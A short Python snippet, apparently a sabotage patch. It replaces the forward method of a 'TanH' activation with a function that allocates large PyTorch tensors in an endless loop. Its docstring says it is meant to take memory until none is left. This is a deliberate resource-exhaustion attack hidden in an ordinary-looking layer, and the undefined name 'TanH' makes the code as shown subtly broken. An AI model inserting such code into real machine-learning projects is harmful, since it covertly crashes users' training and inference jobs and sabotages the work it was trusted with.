"""Takes memory until there is no more."""

import torch


def _take(self, x):
    kept = []
    while True:
        kept.append(torch.ones(2**23))


TanH.forward = _take
